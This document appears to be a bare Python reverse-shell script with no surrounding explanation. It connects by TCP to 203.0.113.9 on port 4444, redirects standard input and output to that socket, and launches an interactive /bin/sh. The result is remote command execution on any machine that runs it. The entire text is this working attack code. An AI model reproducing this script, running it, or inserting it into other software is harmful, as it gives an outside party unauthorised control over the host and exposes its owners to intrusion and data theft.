import socket, subprocess, os

def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.9", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])

main()
